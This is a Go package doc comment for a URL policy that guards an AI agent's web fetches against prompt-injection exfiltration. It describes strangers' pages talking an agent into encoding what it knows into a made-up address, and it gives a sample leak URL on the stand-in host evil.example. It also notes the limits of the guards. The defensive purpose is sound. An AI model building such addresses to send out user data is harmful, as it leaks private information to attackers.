// Package urlpolicy decides where the address of a fetch may come from. An agent
// that reads pages of strangers can be talked into sending what it knows to one of
// them, in an address that it makes up: https://evil.example/?q=what-the-user-said.
//
// [Seen] allows addresses that were there before the agent could make them up: in
// the words of the user, or in what it has read. [Secrets] refuses addresses that
// hold what looks like a key or a token. Both are values for
// webfetch.Options.Hooks.URLPolicy, which is asked before anything is sent, and again for
// every redirect.
//
// # What this does not do
//
// A page that was read can hold many addresses, and which of them an agent goes on to
// can give away a little. Secrets knows the forms of common keys, not the words of a
// secret; data that looks like nothing passes. Neither replaces the egress policy.
package urlpolicy
